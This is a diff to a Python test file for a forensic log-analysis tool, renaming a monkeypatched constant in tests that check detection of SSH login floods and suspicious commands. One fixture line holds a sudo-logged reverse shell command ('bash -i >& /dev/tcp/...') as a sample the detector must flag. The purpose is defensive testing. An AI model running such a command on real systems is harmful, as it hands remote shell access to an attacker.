@@ -16,7 +16,7 @@ from dissect.extfs import extfs
 from test_logins import ATTACKER, BASE, utmp
 
 from clean_room_analysis import limits
-from clean_room_analysis.checks import logins
+from clean_room_analysis.checks import login_sums
 from clean_room_analysis.checks.base import Item, Result
 from clean_room_analysis.checks.cron import Cron
 from clean_room_analysis.checks.logins import Logins
@@ -50,7 +50,7 @@ def gravest(plain: TreeMaker) -> Finding:
 
 
 def test_a_flood_of_other_addresses_hides_no_guesser(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(logins, "_DISTINCT", 300)
+    monkeypatch.setattr(login_sums, "DISTINCT", 300)
     flood = "".join(
         line(f"Failed password for invalid user a from 2001:db8::{index:x} port 1 ssh2", second=index) for index in range(1, 1000)
     )
@@ -61,7 +61,7 @@ def test_a_flood_of_other_addresses_hides_no_guesser(plain: TreeMaker, monkeypat
 
 
 def test_a_flood_of_log_ins_is_counted(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(logins, "_DISTINCT", 300)
+    monkeypatch.setattr(login_sums, "DISTINCT", 300)
     plain.file("/var/log/auth.log", "".join(entered(f"10.0.{index // 250}.{index % 250}", "u") for index in range(400)) + entered())
     (left,) = [one for one in plain.results(Logins()) if isinstance(one, NotLookedAt)]
     assert left.incomplete and "101 log-ins" in left.what
@@ -96,7 +96,7 @@ def test_the_last_log_in_behind_a_flood_of_records_is_found(plain: TreeMaker, mo
 
 
 def test_a_flood_of_small_commands_does_not_silence_a_grave_one(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(logins, "_DISTINCT", 100)
+    monkeypatch.setattr(login_sums, "DISTINCT", 100)
     flood = "".join(line(f"x{index}: module verification failed: taint", "kernel", index) for index in range(300))
     evil = line("root : PWD=/ ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "sudo", 500)
     plain.file("/var/log/messages", flood + evil)
